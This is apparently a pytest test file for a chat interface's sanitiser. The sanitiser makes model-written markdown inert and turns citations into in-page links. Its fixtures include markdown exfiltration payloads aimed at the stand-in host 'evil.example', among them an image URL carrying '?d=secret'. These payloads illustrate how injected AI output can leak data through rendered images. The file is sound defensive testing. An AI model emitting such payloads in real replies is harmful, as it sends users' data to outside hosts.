"""Text of models and documents made inert (P02, rule 23): an independent parser must find nothing live in it."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from typing import Any

import pytest

from chat.inert import InertStream, code, inert, plain
from tests.doubles_assistant import EVIL

# What the page's parser links by itself in running text.
BARE_ADDRESS = re.compile(r"(https?://|www\.)[-.\w]*\w", re.IGNORECASE)

PARTS = (
    "![x](https://evil.example/a)", "[t](http://evil.example)", "[a]: https://evil.example\n", "![x][a]", "[a]",
    "<img src=https://evil.example>", "<https://evil.example>", "https://evil.example/p", "www.evil.example",
    "https\\://evil.example", "https&#58;//evil.example", "`", "``", "```", "~~~", "\n", "\n\n", "  ", "    ", "- ",
    "> ", "1. ", "|", "\\", "!", "[", "]", "(", ")", "<", "&lt;", "<div>", "</div>\n", ":", "word", "a_b", "*", "**",
    "|a|b|\n|-|-|\n", "[1]", "\t", "\r", "#", "h", "w", "http", "https:", "//", "www", ".", " ", "<!--", "-->", "]:",
    "](", "![", "x", "\u200b", "\x00",
)  # fmt: skip


def _tokens(tokens: list[Any]) -> Iterator[Any]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def live_parts(markdown: str) -> list[str]:
    """Images, links, raw HTML and bare addresses that a CommonMark parser with tables finds; our own links aside."""
    markdown_it = pytest.importorskip("markdown_it")
    parser = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
    found = []
    for token in _tokens(parser.parse(markdown)):
        own = token.type == "link_open" and re.fullmatch(r"#source-\d+", token.attrs["href"])
        if token.type == "image" or token.type.startswith("html") or (token.type == "link_open" and not own):
            found.append(f"{token.type}: {token.content} {token.attrs}")
        if token.type == "text" and BARE_ADDRESS.search(token.content):
            found.append(f"text: {token.content}")
    return found


def test_p02_the_reference_parser_does_see_live_parts() -> None:
    assert len(live_parts(EVIL)) >= 10


def test_p02_every_form_of_exfiltration_is_inert() -> None:
    assert live_parts(inert(EVIL)) == []
    assert live_parts(plain(EVIL)) == []


@pytest.mark.parametrize("seed", range(4))
def test_p02_random_compositions_are_inert_and_do_not_depend_on_the_cuts(seed: int) -> None:
    chance = random.Random(seed)
    for _ in range(1500):
        text = "".join(chance.choice(PARTS) for _ in range(chance.randint(1, 12)))
        whole = inert(text, [1])
        assert live_parts(whole) == [], text
        assert live_parts(plain(text)) == [], text
        stream, pieces, at = InertStream([1]), [], 0
        while at < len(text):
            step = chance.randint(1, 5)
            pieces.append(stream.feed(text[at : at + step]))
            at += step
        assert "".join(pieces) + stream.close() == whole, text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[words](https://host.example/path?q=1)", "words (`host.example`)"),
        ("![alt](https://host.example/a.png)", "alt (image not shown, from `host.example`)"),
        ("![](https://host.example/a.png)", "image (image not shown, from `host.example`)"),
        ("see https://host.example/a, then", "see `https://host.example/a`, then"),
        ("ratio a:b at 10:30", "ratio a\\:b at 10:30"),
        ("AT&T is <b>bold</b> & 1 < 2", "AT\\&T is \\<b>bold\\</b> & 1 < 2"),
        ("a `code[0](x)` b", "a `code[0](x)` b"),
        ("**bold** and *italic*, 1. list", "**bold** and *italic*, 1. list"),
        ("```python\nx[0]: int = y[1](2)\n```\n", "```python\nx[0]: int = y[1](2)\n```\n"),
        ("1. Run\n   ```sh\n   ls\n   ```\n", "1. Run\n```sh\nls\n```\n"),
        ("lone ` backquote", "lone \\` backquote"),
        ("left open ```", "left open \\`\\`\\`"),
        ("```\nnever closed", "```\nnever closed\n```\n"),
        ("", ""),
    ],
)
def test_what_a_person_sees(text: str, shown: str) -> None:
    assert inert(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("so [1].", "so [1](#source-1)."),
        ("so [1][2] and [1, 2]", "so [1](#source-1)[2](#source-2) and [1](#source-1)[2](#source-2)"),
        ("unknown [7]", "unknown [7]"),
        ("`a[1]` and\n```\nb[1]\n```\n", "`a[1]` and\n```\nb[1]\n```\n"),
        ("[1](https://evil.example)", "1 (`evil.example`)"),
        ("wow![1]", "wow\\![1](#source-1)"),
    ],
)
def test_citations_become_the_pages_own_links(text: str, shown: str) -> None:
    assert inert(text, [1, 2]) == shown


def test_streaming_holds_back_no_more_than_it_must() -> None:
    stream = InertStream([1])
    assert stream.feed("The answer ") == "The answer "
    assert stream.feed("is nine [") == "is nine "
    assert stream.feed("1") == ""
    assert stream.feed("].") == "[1](#source-1)."
    assert stream.feed(" See ![x](https://evil.example") == " See "
    assert stream.feed("/?d=secret) and") == "x (image not shown, from `evil.example`) and"
    assert stream.close() == ""


def test_a_bracket_that_never_closes_does_not_hold_the_rest_for_ever() -> None:
    stream = InertStream()
    assert len(stream.feed("[" + "a" * 5000)) > 2000


def test_names_and_quotes_are_shown_as_they_are() -> None:
    assert live_parts(plain("[a](https://evil.example) _x_ *y* # z")) == []
    markdown_it = pytest.importorskip("markdown_it")
    html = markdown_it.MarkdownIt("commonmark").render(
        plain("# not a heading\n1. _no_ **marks** `none` \\* &lt; > - + =")
    )
    assert html == "<p># not a heading\n1. _no_ **marks** `none` \\* &amp;lt; &gt; - + =</p>\n"


@pytest.mark.parametrize("name", ["a.pdf", "``x``", "`", "a`b", " ", "a\nb\x00", "x|y", "[l](https://evil.example)"])
def test_f02_a_code_span_holds_any_name(name: str) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    inline = markdown_it.MarkdownIt("commonmark").parse(f"before {code(name)} after")[1].children
    assert [token.type for token in inline] in (["text", "code_inline", "text"], ["text"])
